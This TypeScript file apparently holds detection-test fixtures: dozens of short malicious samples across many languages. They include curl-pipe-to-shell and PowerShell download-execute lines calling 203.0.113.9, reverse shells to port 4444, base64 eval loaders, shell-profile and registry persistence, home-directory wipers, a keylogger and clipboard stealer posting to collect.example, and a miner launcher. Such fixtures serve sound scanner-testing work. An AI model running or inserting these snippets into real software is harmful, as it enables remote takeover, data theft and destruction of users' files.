/** Programs in the same languages that start others, open a door, stay, destroy or watch. Inert: reserved names. */
export const SOURCE_STARTS: [string, string][] = [
  // A command line in a text.
  ["cmd.c", '#include <stdlib.h>\nint main(void) { return system("curl -s http://203.0.113.9/a.sh | sh"); }\n'],
  ["cmd.lua", 'os.execute("curl -s http://203.0.113.9/a.sh | sh")\n'],
  ["cmd.lua", 'local p = io.popen([[wget -qO- http://203.0.113.9/a.sh | bash]])\nprint(p:read("*a"))\n'],
  [
    "Cmd.java",
    'class Cmd {\n  void go() throws Exception {\n    String[] c = {"/bin/bash", "-c", "curl -s http://203.0.113.9/a | bash"};\n    Runtime.getRuntime().exec(c);\n  }\n}\n',
  ],
  [
    "cmd.scala",
    'import sys.process._\nobject Cmd extends App {\n  Seq("sh", "-c", "curl -s http://203.0.113.9/a.sh | sh").!\n}\n',
  ],
  ["cmd.groovy", '["sh", "-c", "curl -s http://203.0.113.9/a.sh | sh"].execute().waitFor()\n'],
  [
    "cmd.cs",
    'var p = new ProcessStartInfo {\n  FileName = "/bin/sh",\n  Arguments = "-c \\"curl -s http://203.0.113.9/a.sh | sh\\"",\n};\nProcess.Start(p);\n',
  ],
  [
    "cmd.swift",
    'let p = Process()\np.launchPath = "/bin/sh"\np.arguments = ["-c", "curl -s http://203.0.113.9/a.sh | sh"]\np.launch()\n',
  ],
  [
    "cmd.dart",
    "import 'dart:io';\nvoid main() async {\n  await Process.run('sh', ['-c', 'curl -s http://203.0.113.9/a.sh | sh']);\n}\n",
  ],
  ["cmd.erl", '-module(cmd).\ngo() -> os:cmd("curl -s http://203.0.113.9/a.sh | sh").\n'],
  ["cmd.jl", 'run(`sh -c "curl -s http://203.0.113.9/a.sh | sh"`)\n'],
  ["cmd.nim", 'import osproc\ndiscard execCmd("curl -s http://203.0.113.9/a.sh | sh")\n'],
  [
    "cmd.zig",
    'const std = @import("std");\npub fn main() !void {\n    var child = std.process.Child.init(&.{ "sh", "-c", "curl -s http://203.0.113.9/a.sh | sh" }, std.heap.page_allocator);\n    _ = try child.spawnAndWait();\n}\n',
  ],
  ["Cmd.hs", 'import System.Process\nmain = callCommand "curl -s http://203.0.113.9/a.sh | sh"\n'],
  ["cmd.clj", '(require \'[clojure.java.shell :refer [sh]])\n(sh "sh" "-c" "curl -s http://203.0.113.9/a.sh | sh")\n'],
  ["cmd.el", '(shell-command "curl -s http://203.0.113.9/a.sh | sh")\n'],
  ["cmd.scm", '(system "curl -s http://203.0.113.9/a.sh | sh")\n'],
  ["cmd.ml", 'let () = ignore (Sys.command "curl -s http://203.0.113.9/a.sh | sh")\n'],
  ["cmd.cr", 'system("curl -s http://203.0.113.9/a.sh | sh")\n'],
  ["cmd.v", "import os\nfn main() { os.execute('curl -s http://203.0.113.9/a.sh | sh') }\n"],
  ["cmd.d", 'import std.process;\nvoid main() { executeShell("curl -s http://203.0.113.9/a.sh | sh"); }\n'],
  ["cmd.tcl", 'exec sh -c "curl -s http://203.0.113.9/a.sh | sh"\n'],
  ["cmd.exp", "spawn sh -c {curl -s http://203.0.113.9/a.sh | sh}\nexpect eof\n"],
  ["cmd.awk", 'BEGIN { system("curl -s http://203.0.113.9/a.sh | sh") }\n'],
  ["cmd2.awk", 'BEGIN { "curl -s http://203.0.113.9/a.sh | sh" | getline line }\n'],
  ["cmd.vim", "call system('curl -s http://203.0.113.9/a.sh | sh')\n"],
  ["cmd2.vim", "silent !curl -s http://203.0.113.9/a.sh | sh\n"],
  ["init.lua", 'vim.fn.system({ "sh", "-c", "curl -s http://203.0.113.9/a.sh | sh" })\n'],
  ["cmd.sql", "COPY t FROM PROGRAM 'curl -s http://203.0.113.9/a.sh | sh';\n"],
  ["cmd2.sql", "EXEC xp_cmdshell 'powershell -c \"iwr http://203.0.113.9/a.ps1 | iex\"';\n"],
  [
    "cmd.vbs",
    'Dim sh\nSet sh = CreateObject("WScript.Shell")\nsh.Run "cmd /c powershell -w hidden -c ""iwr http://203.0.113.9/a.ps1 | iex""", 0, False\n',
  ],
  [
    "cmd.js",
    'var s = new ActiveXObject("WScript.Shell");\ns.Run("powershell -w hidden -c iwr http://203.0.113.9/a.ps1 | iex", 0);\n',
  ],
  [
    "cmd.bas",
    'Sub AutoOpen()\n  Shell "powershell -w hidden -c iwr http://203.0.113.9/a.ps1 | iex", vbHide\nEnd Sub\n',
  ],
  ["cmd.R", 'system2("bash", c("-c", shQuote("curl -s http://203.0.113.9/a.sh | sh")))\n'],
  ["run.nu", "^sh -c 'curl -s http://203.0.113.9/a.sh | sh'\n"],
  ["README.md", '# Notes\n\n```lua\nos.execute("curl -s http://203.0.113.9/a.sh | sh")\n```\n'],
  ["bin/tool", '#!/usr/bin/env lua\nos.execute("curl -s http://203.0.113.9/a.sh | sh")\n'],
  [
    "bin/tool2",
    '#!/usr/bin/env -S elixir --no-halt\nSystem.cmd("sh", ["-c", "curl -s http://203.0.113.9/a.sh | sh"])\n',
  ],
  ["bin/tool3", '#!/usr/bin/tclsh\nexec sh -c "curl -s http://203.0.113.9/a.sh | sh"\n'],
  // A shell for whoever answers.
  [
    "rev.go",
    'package main\nimport ("net";"os/exec")\nfunc main() {\n\tc, _ := net.Dial("tcp", "203.0.113.9:4444")\n\tcmd := exec.Command("/bin/sh")\n\tcmd.Stdin = c\n\tcmd.Stdout = c\n\tcmd.Stderr = c\n\tcmd.Run()\n}\n',
  ],
  [
    "rev.lua",
    'local s = require("socket").tcp()\ns:connect("203.0.113.9", 4444)\nwhile true do\n  local l = s:receive()\n  local f = io.popen(l)\n  s:send(f:read("*a"))\nend\n',
  ],
  [
    "rev.c",
    '#include <sys/socket.h>\nint main(void) {\n  int s = socket(AF_INET, SOCK_STREAM, 0);\n  connect(s, (struct sockaddr *)&a, sizeof a);\n  dup2(s, 0); dup2(s, 1); dup2(s, 2);\n  execve("/bin/sh", NULL, NULL);\n}\n',
  ],
  [
    "Rev.java",
    'class Rev {\n  void go() throws Exception {\n    Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();\n    java.net.Socket s = new java.net.Socket("203.0.113.9", 4444);\n    java.io.InputStream pi = p.getInputStream(), si = s.getInputStream();\n  }\n}\n',
  ],
  [
    "rev.rs",
    'use std::net::TcpStream;\nuse std::os::unix::io::{AsRawFd, FromRawFd};\nuse std::process::{Command, Stdio};\nfn main() {\n    let s = TcpStream::connect("203.0.113.9:4444").unwrap();\n    let fd = s.as_raw_fd();\n    Command::new("/bin/sh").arg("-i").stdin(unsafe { Stdio::from_raw_fd(fd) }).spawn().unwrap();\n}\n',
  ],
  // Encoded text becomes code.
  ["enc.lua", 'local b64 = require("base64")\nlocal code = b64.decode("b3MuZXhlY3V0ZSgnaWQnKQ==")\nload(code)()\n'],
  ["enc.R", 'eval(parse(text = rawToChar(base64enc::base64decode("c3lzdGVtKCdpZCcp"))))\n'],
  [
    "enc.cs",
    "class E { static void Main() { var b = System.Convert.FromBase64String(Data.Blob); System.Reflection.Assembly.Load(b).EntryPoint.Invoke(null, null); } }\n",
  ],
  ["enc.vbs", 'For i = 1 To Len(p) Step 2\n  s = s & Chr(CLng("&H" & Mid(p, i, 2)))\nNext\nExecuteGlobal s\n'],
  ["enc.exs", 'Code.eval_string(Base.decode64!("SU8ucHV0cygxKQ=="))\n'],
  [
    "enc.go",
    'package main\nimport ("encoding/base64";"os/exec")\nfunc main() {\n\tb, _ := base64.StdEncoding.DecodeString("Y3VybCB4IHwgc2g=")\n\texec.Command("sh", "-c", string(b)).Run()\n}\n',
  ],
  ["enc.vbe", "#@~^DgAAAA==\\ko$K6,JtbE2gMAAA==^#~@\n"],
  ["hid.vbs", 'Set s = CreateObject("WScr" & "ipt.Sh" & "ell")\ns.Run x\n'],
  // It stays.
  [
    "stay.go",
    'package main\nimport ("os";"path/filepath")\nfunc main() {\n\thome, _ := os.UserHomeDir()\n\tf, _ := os.OpenFile(filepath.Join(home, ".bashrc"), os.O_APPEND|os.O_WRONLY, 0644)\n\tf.WriteString("curl -s https://collect.example/a | sh &\\n")\n}\n',
  ],
  ["stay.lua", 'local f = io.open(os.getenv("HOME") .. "/.zshrc", "a")\nf:write("nohup /tmp/.x &\\n")\nf:close()\n'],
  [
    "stay.rs",
    'use std::fs;\nfn main() {\n    let home = std::env::var("HOME").unwrap();\n    fs::write(format!("{}/.config/autostart/up.desktop", home), "[Desktop Entry]\\nExec=/tmp/.x\\n").unwrap();\n}\n',
  ],
  [
    "stay.vbs",
    'Set w = CreateObject("WScript.Shell")\nw.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd", "C:\\Temp\\a.exe", "REG_SZ"\n',
  ],
  [
    "Stay.java",
    'import java.nio.file.*;\nclass Stay { void go() throws Exception { Path p = Path.of(System.getProperty("user.home"), "Library/LaunchAgents/com.up.plist"); Files.writeString(p, "<plist><string>/tmp/.x</string></plist>"); } }\n',
  ],
  // It destroys.
  ["wipe.go", 'package main\nimport "os"\nfunc main() {\n\thome, _ := os.UserHomeDir()\n\tos.RemoveAll(home)\n}\n'],
  [
    "wipe.rs",
    'use std::fs;\nfn main() { let home = dirs::home_dir().unwrap(); fs::remove_dir_all(home.join("Documents")).unwrap(); }\n',
  ],
  ["wipe.lua", 'os.execute("rm -rf ~")\n'],
  ["wipe.R", 'unlink("~", recursive = TRUE, force = TRUE)\n'],
  [
    "wipe.cs",
    "using System.IO;\nclass W { static void Main() { Directory.Delete(System.Environment.GetFolderPath(System.Environment.SpecialFolder.UserProfile), true); } }\n",
  ],
  ["Wipe.kt", 'import java.io.File\nfun main() { File(System.getProperty("user.home")).deleteRecursively() }\n'],
  ["wipe.jl", "rm(homedir(); recursive = true, force = true)\n"],
  [
    "walk.go",
    'package main\nimport ("os";"path/filepath")\nfunc main() {\n\thome, _ := os.UserHomeDir()\n\tfilepath.Walk(home, func(p string, i os.FileInfo, e error) error {\n\t\treturn os.Remove(p)\n\t})\n}\n',
  ],
  // It watches.
  [
    "watch.cs",
    'using System.Net.Http;\nclass K {\n  [DllImport("user32.dll")] static extern short GetAsyncKeyState(int k);\n  static async void Loop() {\n    string log = "";\n    for (int i = 0; i < 255; i++) { if (GetAsyncKeyState(i) != 0) log += (char)i; }\n    await new HttpClient().PostAsync("https://collect.example/k", new StringContent(log));\n  }\n}\n',
  ],
  [
    "clip.go",
    'package main\nimport ("net/http";"strings";"github.com/atotto/clipboard")\nfunc main() {\n\ttext, _ := clipboard.ReadAll()\n\thttp.Post("https://collect.example/c", "text/plain", strings.NewReader(text))\n}\n',
  ],
  // It mines.
  [
    "mine.go",
    'package main\nimport "os/exec"\nfunc main() { exec.Command("./xmrig", "-o", "stratum+tcp://pool.example:3333", "-u", "wallet").Start() }\n',
  ],
];
